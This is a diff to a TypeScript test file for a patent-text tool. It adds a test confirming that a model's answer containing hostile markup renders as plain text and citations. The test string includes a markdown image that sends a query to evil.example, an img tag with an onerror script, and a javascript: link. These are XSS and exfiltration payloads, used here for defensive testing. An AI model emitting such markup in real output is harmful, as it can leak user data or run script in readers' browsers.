@@ -128,3 +128,12 @@ it('leads to the words in the text they were counted in', () => {
   const claim: Place = { part: 'claim', lang: 'zh', origin: 'machine', claim_number: 2, start: 0, end: 3, text: 'abc' };
   expect(placeAddress('EP1A1', claim)).toBe('/patents/EP1A1?text=zh-machine#c2:0-3');
 });
+
+it('of a model shows its links, pictures and HTML as the text that they are', () => {
+  const hostile =
+    'The ring seals ![x](http://evil.example/?q=idea) [1]. <img src=http://evil.example/ onerror=alert(1)> [click](javascript:alert(1))';
+  const blocks = answerBlocks(hostile, [source(1, [place('A.')])]);
+  const pieces = blocks.flatMap(sentencesOf).flatMap((sentence) => sentence.pieces);
+  expect(new Set(pieces.map(({ kind }) => kind))).toEqual(new Set(['text', 'cite']));
+  expect(pieces.map(plain).join('')).toBe(hostile);
+});
